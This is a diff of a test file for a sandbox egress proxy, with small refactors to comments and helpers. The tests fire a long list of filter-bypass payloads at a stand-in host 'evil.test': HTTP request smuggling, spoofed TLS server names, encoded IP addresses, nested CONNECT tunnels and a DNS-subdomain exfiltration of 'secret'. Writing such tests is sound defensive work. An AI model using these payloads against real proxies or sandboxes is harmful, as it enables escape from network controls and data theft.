@@ -1,4 +1,4 @@
-/** What code in a sandbox tries to reach another host than its list holds, from inside: nothing gets out. */
+/** Code in a sandbox tries to reach hosts that are not on its list: nothing gets out. */
 import { once } from "node:events";
 import { type Server, type Socket, createServer } from "node:net";
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
@@ -6,10 +6,10 @@ import { type TestEngine, TestSandbox, startTestEngine } from "../setup/engine-c
 
 /** What arrived, by the server: `good` plays hosts of the list, `evil` all others. */
 const arrived = { good: "", evil: "" };
-/** What had arrived by then, from one request for `/attempt-<number>` to the next. */
+/** What arrived between one request for `/attempt-<number>` and the next. */
 const arrivedAt: (typeof arrived)[] = [];
 
-/** Answers each request head with 200, also to what it takes for a second request in one connection. */
+/** Responds to each request head with 200, also to a second one in the same connection. */
 function serve(which: keyof typeof arrived): Server {
   return createServer((socket: Socket) => {
     if (which === "evil") arrived.evil += "connected ";
@@ -72,7 +72,7 @@ beforeEach(() => {
   arrived.good = arrived.evil = "";
 });
 
-/** `ask` sends bytes to the proxy and answers what comes back; `hello` makes the beginning of TLS. */
+/** `ask` sends bytes to the proxy and returns the response; `hello` makes the beginning of TLS. */
 const TRIES = `
 import socket, ssl, struct, time
 def ask(*parts):
@@ -96,6 +96,8 @@ def hello(name):
     return out.read()
 def connect(to): return f"CONNECT {to} HTTP/1.1\\r\\nHost: {to}\\r\\n\\r\\n".encode()
 def get(url, host="good.test", more="Connection: close\\r\\n"): return f"GET {url} HTTP/1.1\\r\\nHost: {host}\\r\\n{more}\\r\\n".encode()
+def tunnel(port, *parts): return ask(connect(f"good.test:{port}"), *parts)
+def post(*lines, body=b""): return "\\r\\n".join(("POST http://good.test/ HTTP/1.1", "Host: good.test", *lines, "", "")).encode() + body
 def extended(name, kind, data):
     record = hello(name); body = record[9:]
     at = 34; at += 1 + body[at]; at += 2 + struct.unpack(">H", body[at:at+2])[0]; at += 1 + body[at]
@@ -103,9 +105,16 @@ def extended(name, kind, data):
     body = body[:at] + struct.pack(">H", len(extensions)) + extensions
     message = b"\\x01" + struct.pack(">I", len(body))[1:] + body
     return b"\\x16\\x03\\x01" + struct.pack(">H", len(message)) + message
+LAST = b"0\\r\\n\\r\\n"
+SMUGGLED = get("http://evil.test/smuggled", host="evil.test")
 `;
 
-/** Runs a Python expression inside and answers what it prints. */
+/** The response to what is not valid HTTP: none, or a refusal. */
+const NOT_HTTP = /^b''|400|403/;
+/** The end of a handshake that names no host of the list. */
+const TLS_ALERT = /\\x15\\x03\\x03/;
+
+/** Runs a Python expression in the sandbox, and returns its output. */
 async function tried(expression: string): Promise<string> {
   const { stdout, stderr } = await sandbox.run(
     `python3 - <<'END'\nexec(open("/tmp/tries.py").read())\nprint(${expression})\nEND`,
@@ -114,7 +123,7 @@ async function tried(expression: string): Promise<string> {
   return stdout;
 }
 
-/** What is tried, as a Python expression, and what it is answered. */
+/** Each attempt as a Python expression, with the expected response. */
 const ATTEMPTS: [what: string, expression: string, answer: RegExp][] = [
   ["another host by HTTP", `ask(get("http://evil.test/x"))`, /403/],
   ["another host by CONNECT", `ask(connect("evil.test:443"), hello("evil.test"))`, /403/],
@@ -124,14 +133,14 @@ const ATTEMPTS: [what: string, expression: string, answer: RegExp][] = [
   [
     "a NUL in a name",
     `ask(b"CONNECT good.test\\0.evil.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")`,
-    /^b''|400|403/,
+    NOT_HTTP,
   ],
   ["an encoded NUL in a name", `ask(get("http://good.test%00.evil.test/x"))`, /400|403/],
   ["a user name that looks like a host", `ask(get("http://good.test@evil.test/x"))`, /403/],
   [
     "a letter of another script",
     `ask("GET http://g\\u043e\\u043ed.test/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())`,
-    /^b''|400|403/,
+    NOT_HTTP,
   ],
   ["an address", `ask(connect("1.1.1.1:443"), hello("good.test"))`, /403/],
   ["an address in hexadecimal", `ask(get("http://0x01010101/x"))`, /403/],
@@ -140,62 +149,34 @@ const ATTEMPTS: [what: string, expression: string, answer: RegExp][] = [
   ["an address as one number", `ask(connect("16843009:443"), hello("good.test"))`, /403/],
   ["an IPv6 address", `ask(connect("[2606:4700:4700::1111]:443"), hello("good.test"))`, /403/],
   ["an IPv4 address inside an IPv6 address", `ask(get("http://[::ffff:1.1.1.1]/x"))`, /403/],
-  ["another port by CONNECT", `ask(connect("good.test:22"), b"SSH-2.0-x\\r\\n")`, /403/],
+  ["another port by CONNECT", `tunnel(22, b"SSH-2.0-x\\r\\n")`, /403/],
   ["another port by HTTP", `ask(get("http://good.test:8080/x"))`, /403/],
-  [
-    "another name in TLS",
-    `ask(connect("good.test:443"), hello("evil.test"))`,
-    /\\x15\\x03\\x03\\x00\\x02\\x02p/,
-  ],
-  ["no name in TLS", `ask(connect("good.test:443"), hello(None))`, /\\x15\\x03\\x03/],
+  ["another name in TLS", `tunnel(443, hello("evil.test"))`, /\\x15\\x03\\x03\\x00\\x02\\x02p/],
+  ["no name in TLS", `tunnel(443, hello(None))`, TLS_ALERT],
   [
     "a second name in TLS",
-    `ask(connect("good.test:443"), extended("good.test", 0, b"\\0\\x0c\\0\\0\\x09evil.test"))`,
-    /\\x15\\x03\\x03/,
+    `tunnel(443, extended("good.test", 0, b"\\0\\x0c\\0\\0\\x09evil.test"))`,
+    TLS_ALERT,
   ],
-  [
-    "an encrypted name in TLS",
-    `ask(connect("good.test:443"), extended("good.test", 0xfe0d, b"x" * 40))`,
-    /\\x15\\x03\\x03/,
-  ],
+  ["an encrypted name in TLS", `tunnel(443, extended("good.test", 0xfe0d, b"x" * 40))`, TLS_ALERT],
   [
     "a name in TLS in pieces of a few bytes",
-    `ask(connect("good.test:443"), hello("evil.test")[:7], hello("evil.test")[7:60], hello("evil.test")[60:])`,
+    `tunnel(443, hello("evil.test")[:7], hello("evil.test")[7:60], hello("evil.test")[60:])`,
     /\\x15\\x03\\x03|200 Conn/,
   ],
-  [
-    "other data in a tunnel for TLS",
-    `ask(connect("good.test:443"), get("/x", host="evil.test"))`,
-    /\\x15\\x03\\x03/,
-  ],
-  [
-    "HTTP/2 in a tunnel for HTTP",
-    `ask(connect("good.test:80"), b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")`,
-    /200 Conn|400/,
-  ],
+  ["other data in a tunnel for TLS", `tunnel(443, get("/x", host="evil.test"))`, TLS_ALERT],
+  ["HTTP/2 in a tunnel for HTTP", `tunnel(80, b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")`, /200 Conn|400/],
   ["HTTP/2 at the proxy", `ask(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")`, /^b''|400/],
-  ["another host in a tunnel for HTTP", `ask(connect("good.test:80"), get("/x", host="evil.test"))`, /403/],
-  [
-    "another listed host in a tunnel for HTTP",
-    `ask(connect("good.test:80"), get("/x", host="x.wild.test"))`,
-    /403/,
-  ],
+  ["another host in a tunnel for HTTP", `tunnel(80, get("/x", host="evil.test"))`, /403/],
+  ["another listed host in a tunnel for HTTP", `tunnel(80, get("/x", host="x.wild.test"))`, /403/],
   [
     "another listed host in a tunnel for HTTP to a host with a secret",
     `ask(connect("key.wild.test:80"), get("/x", host="good.test"))`,
     /403/,
   ],
   ["a tunnel for HTTP to a host with a secret that is not listed", `ask(connect("key.test:80"))`, /403/],
-  [
-    "a tunnel in a tunnel to a host with a secret",
-    `ask(connect("good.test:80"), connect("key.wild.test:80"))`,
-    /403/,
-  ],
-  [
-    "a tunnel in a tunnel",
-    `ask(connect("good.test:80"), connect("evil.test:443"), hello("evil.test"))`,
-    /403/,
-  ],
+  ["a tunnel in a tunnel to a host with a secret", `tunnel(80, connect("key.wild.test:80"))`, /403/],
+  ["a tunnel in a tunnel", `tunnel(80, connect("evil.test:443"), hello("evil.test"))`, /403/],
   [
     "a change to HTTP/2",
     `ask(get("http://good.test/x", more="Connection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABk\\r\\n"), b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")`,
@@ -203,8 +184,8 @@ const ATTEMPTS: [what: string, expression: string, answer: RegExp][] = [
   ],
   [
     "two lengths",
-    `ask(b"POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + get("http://evil.test/smuggled", host="evil.test"))`,
-    /^b''|400|403/,
+    `ask(post("Content-Length: 4", "Transfer-Encoding: chunked", body=LAST) + SMUGGLED)`,
+    NOT_HTTP,
   ],
   ...[
     "Transfer-Encoding : chunked",
@@ -217,17 +198,17 @@ const ATTEMPTS: [what: string, expression: string, answer: RegExp][] = [
     "Content-Length: +4",
   ].map((header): [string, string, RegExp] => [
     `two readings of a length: ${header}`,
-    `ask(b"POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 4\\r\\n${header}\\r\\n\\r\\n0\\r\\n\\r\\n" + get("http://evil.test/smuggled", host="evil.test"))`,
-    /^b''|400|403/,
+    `ask(post("Content-Length: 4", "${header}", body=LAST) + SMUGGLED)`,
+    NOT_HTTP,
   ]),
   [
     "a request in a chunk's extension",
-    `ask(b"POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0;\\n\\r\\n\\r\\n" + get("http://evil.test/smuggled", host="evil.test"))`,
+    `ask(post("Transfer-Encoding: chunked", body=b"0;\\n\\r\\n\\r\\n") + SMUGGLED)`,
     /./,
   ],
   [
     "a body with a transfer coding",
-    `ask(b"POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: gzip, chunked\\r\\nConnection: close\\r\\n\\r\\n2\\r\\nhi\\r\\n0\\r\\n\\r\\n")`,
+    `ask(post("Transfer-Encoding: gzip, chunked", "Connection: close", body=b"2\\r\\nhi\\r\\n" + LAST))`,
     /501/,
   ],
   ["another host in the Host header", `ask(get("http://good.test/x", host="evil.test"))`, /200/],
@@ -237,11 +218,7 @@ const ATTEMPTS: [what: string, expression: string, answer: RegExp][] = [
     /200|400/,
   ],
   ["a request in origin form for another host", `ask(get("/x", host="evil.test"))`, /403/],
-  [
-    "a length that is not a number",
-    `ask(b"POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 0x4\\r\\n\\r\\n0\\r\\n\\r\\n")`,
-    /^b''|400/,
-  ],
+  ["a length that is not a number", `ask(post("Content-Length: 0x4", body=LAST))`, /^b''|400/],
   [
     "a request after another",
     `ask(get("http://good.test/a") + get("http://evil.test/pipelined", host="evil.test"))`,
@@ -253,8 +230,8 @@ const ATTEMPTS: [what: string, expression: string, answer: RegExp][] = [
     /./,
   ],
   ["a path that looks like a host", `ask(get("//1.1.1.1/x"))`, /200/],
-  ["a backslash before a host", `ask(get("http://good.test\\\\@evil.test/x"))`, /^b''|400|403/],
-  ["a fragment that looks like a host", `ask(get("http://evil.test#@good.test/x"))`, /^b''|400|403/],
+  ["a backslash before a host", `ask(get("http://good.test\\\\@evil.test/x"))`, NOT_HTTP],
+  ["a fragment that looks like a host", `ask(get("http://evil.test#@good.test/x"))`, NOT_HTTP],
   ["a port that is not a number", `ask(get("http://good.test:80@evil.test:80/x"))`, /403/],
   ["a port that wraps round", `ask(connect("good.test:65979"), hello("good.test"))`, /400|403/],
   ["a port in another spelling", `ask(connect("good.test:0022"), b"SSH-2.0-x")`, /403/],
@@ -263,7 +240,7 @@ const ATTEMPTS: [what: string, expression: string, answer: RegExp][] = [
   [
     "a tab in a name",
     `ask(b"GET http://good.test\\t.evil.test/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")`,
-    /^b''|400|403/,
+    NOT_HTTP,
   ],
   ["another scheme", `ask(get("https://good.test/x"))`, /400/],
   ["a scheme other than HTTP", `ask(get("ftp://evil.test/x"))`, /400/],
@@ -278,26 +255,26 @@ const ATTEMPTS: [what: string, expression: string, answer: RegExp][] = [
     `ask(get("http://good.test/a", more="X: y\\rHost: evil.test\\r\\rGET / HTTP/1.1\\r\\r\\n"))`,
     /^b''|400/,
   ],
-  ["HTTP/0.9", `ask(b"GET http://evil.test/\\r\\n\\r\\n")`, /^b''|400|403/],
+  ["HTTP/0.9", `ask(b"GET http://evil.test/\\r\\n\\r\\n")`, NOT_HTTP],
   [
     "HTTP/1.0 that stays open",
     `ask(b"GET http://good.test/a HTTP/1.0\\r\\nConnection: keep-alive\\r\\n\\r\\nGET http://evil.test/ HTTP/1.0\\r\\n\\r\\n")`,
     /./,
   ],
-  ["TLS in a tunnel for HTTP", `ask(connect("good.test:80"), hello("evil.test"))`, /200 Conn|400/],
+  ["TLS in a tunnel for HTTP", `tunnel(80, hello("evil.test"))`, /200 Conn|400/],
   [
     "a chunk without a length",
-    `ask(b"POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n-1\\r\\n\\r\\n" + get("http://evil.test/smuggled", host="evil.test"))`,
-    /^b''|400|403/,
+    `ask(post("Transfer-Encoding: chunked", body=b"-1\\r\\n\\r\\n") + SMUGGLED)`,
+    NOT_HTTP,
   ],
   [
     "a chunk larger than a number can say",
-    `ask(b"POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n10000000000000000\\r\\n\\r\\n" + get("http://evil.test/smuggled", host="evil.test"))`,
-    /^b''|400|403/,
+    `ask(post("Transfer-Encoding: chunked", body=b"10000000000000000\\r\\n\\r\\n") + SMUGGLED)`,
+    NOT_HTTP,
   ],
   [
     "a trailer",
-    `ask(b"POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: Host\\r\\n\\r\\n0\\r\\nHost: evil.test\\r\\n\\r\\n")`,
+    `ask(post("Transfer-Encoding: chunked", "Trailer: Host", body=b"0\\r\\nHost: evil.test\\r\\n\\r\\n"))`,
     /200|400/,
   ],
   [
@@ -308,7 +285,7 @@ const ATTEMPTS: [what: string, expression: string, answer: RegExp][] = [
   ["a name that only a name server would see", `ask(connect("c2VjcmV0.evil.example.com:443"))`, /403/],
 ];
 
-/** What an attempt was answered, and what arrived at both servers meanwhile. */
+/** The response to an attempt, and what arrived at both servers. */
 type Outcome = { output: string } & typeof arrived;
 
 let outcomes: Map<string, Outcome> | undefined;
